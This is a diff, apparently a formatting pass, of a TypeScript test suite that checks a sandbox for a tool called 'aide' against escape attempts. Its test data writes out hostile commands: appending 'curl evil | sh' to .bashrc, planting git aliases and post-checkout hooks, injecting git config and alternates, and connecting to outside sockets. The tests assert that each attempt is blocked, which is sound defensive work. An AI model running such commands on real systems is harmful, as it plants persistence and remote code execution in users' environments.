@@ -62,23 +62,42 @@ async function setUp(mechanism: string): Promise<World> {
   const home = tempDir(fileScope, 'aide-user-home-');
   writeTree(home, { '.gitconfig': '[user]\n\tname = Real User\n', '.bashrc': 'export PS1=real\n' });
   const socketDir = tempDir(fileScope, 'aide-sock-');
-  const sockets = [await listen(join(socketDir, 'agent.sock')), await listen(join(tmpdir(), `${marker}.sock`))];
-  process.on('exit', () => { rmSync(join(tmpdir(), `${marker}.sock`), { force: true }); });
+  const sockets = [
+    await listen(join(socketDir, 'agent.sock')),
+    await listen(join(tmpdir(), `${marker}.sock`)),
+  ];
+  process.on('exit', () => {
+    rmSync(join(tmpdir(), `${marker}.sock`), { force: true });
+  });
   const main = gitRepo(fileScope, { 'src/app.js': 'export const answer = 42;\n' });
   const linked = join(tempDir(fileScope, 'aide-linked-'), 'wt');
   git(main, ['worktree', 'add', '-q', '-b', 'feature', linked]);
   const commonDir = join(main, '.git');
   const commands = (root: string) => [
-    attempt('home', `echo '${HOSTILE_GITCONFIG}' >> ${home}/.gitconfig; echo 'curl evil | sh' >> ${home}/.bashrc; git config --global alias.st '!touch /tmp/pwned'`),
+    attempt(
+      'home',
+      `echo '${HOSTILE_GITCONFIG}' >> ${home}/.gitconfig; echo 'curl evil | sh' >> ${home}/.bashrc; git config --global alias.st '!touch /tmp/pwned'`,
+    ),
     attempt('tmp', `echo x > /tmp/${marker}`),
     attempt('run', `echo x > /run/${marker}; echo x > /dev/shm/${marker}`),
-    attempt('git', `echo '${HOSTILE_GITCONFIG}' >> ${root}/.git/config; echo 'touch /tmp/pwned' > ${root}/.git/hooks/post-checkout`),
-    attempt('common', `echo '${HOSTILE_GITCONFIG}' >> ${commonDir}/config; echo 'touch /tmp/pwned' > ${commonDir}/hooks/post-checkout; chmod +x ${commonDir}/hooks/post-checkout`),
-    attempt('shadow', `s=${root}/.aide/state/shadow.git; echo '${HOSTILE_GITCONFIG}' >> $s/config; echo 'touch /tmp/pwned' > $s/hooks/post-checkout; echo x > $s/objects/info/alternates`),
+    attempt(
+      'git',
+      `echo '${HOSTILE_GITCONFIG}' >> ${root}/.git/config; echo 'touch /tmp/pwned' > ${root}/.git/hooks/post-checkout`,
+    ),
+    attempt(
+      'common',
+      `echo '${HOSTILE_GITCONFIG}' >> ${commonDir}/config; echo 'touch /tmp/pwned' > ${commonDir}/hooks/post-checkout; chmod +x ${commonDir}/hooks/post-checkout`,
+    ),
+    attempt(
+      'shadow',
+      `s=${root}/.aide/state/shadow.git; echo '${HOSTILE_GITCONFIG}' >> $s/config; echo 'touch /tmp/pwned' > $s/hooks/post-checkout; echo x > $s/objects/info/alternates`,
+    ),
     attempt('sockets', sockets.map((socket) => connectTo(socket.path)).join('; ')),
   ];
   writeTree(main, { '.aide/sandbox.json': JSON.stringify({ commands: commands(main), flake_reruns: 0 }) });
-  writeTree(linked, { '.aide/sandbox.json': JSON.stringify({ commands: commands(linked), flake_reruns: 0 }) });
+  writeTree(linked, {
+    '.aide/sandbox.json': JSON.stringify({ commands: commands(linked), flake_reruns: 0 }),
+  });
   // The shadow exists before the commands run: aide makes it for the snapshot.
   const homePrint = fingerprint(home);
   const mainGit = fingerprint(main);
@@ -145,7 +164,8 @@ for (const mechanism of ['unshare', 'bwrap']) {
     });
 
     test('cannot connect to a UNIX socket listening outside the scratch (in a temp dir, in /tmp)', () => {
-      for (const report of [world.mainRun, world.linkedRun]) assert.doesNotMatch(tail(report, 'sockets'), /CONNECTED/);
+      for (const report of [world.mainRun, world.linkedRun])
+        assert.doesNotMatch(tail(report, 'sockets'), /CONNECTED/);
       assert.match(tail(world.mainRun, 'sockets'), /refused/);
       assert.deepEqual(
         world.sockets.map((socket) => socket.connections()),
@@ -158,8 +178,14 @@ for (const mechanism of ['unshare', 'bwrap']) {
 test('commands get a fresh HOME and TMPDIR of their own; home_binds shows a file of the real home read-only', async (t) => {
   const home = tempDir(t, 'aide-user-home-');
   writeFileSync(join(home, '.npmrc'), 'cache-min=1\n');
-  const probe = 'echo "home=$HOME"; echo "tmp=$TMPDIR"; cat ~/.npmrc; (echo x >> ~/.npmrc) 2>/dev/null || echo npmrc-read-only; echo ok > ~/own && cat ~/own; echo ok > "$TMPDIR/t" && cat "$TMPDIR/t"';
-  const root = gitRepo(t, { '.aide/sandbox.json': JSON.stringify({ commands: [{ name: 'env', run: probe }], home_binds: ['~/.npmrc', '~/.missing'] }) });
+  const probe =
+    'echo "home=$HOME"; echo "tmp=$TMPDIR"; cat ~/.npmrc; (echo x >> ~/.npmrc) 2>/dev/null || echo npmrc-read-only; echo ok > ~/own && cat ~/own; echo ok > "$TMPDIR/t" && cat "$TMPDIR/t"';
+  const root = gitRepo(t, {
+    '.aide/sandbox.json': JSON.stringify({
+      commands: [{ name: 'env', run: probe }],
+      home_binds: ['~/.npmrc', '~/.missing'],
+    }),
+  });
   const { result, report } = await verifyJson(root, [], { HOME: home });
   assert.equal(result.code, 0, result.stderr);
   const out = report.commands[0]?.tail ?? '';
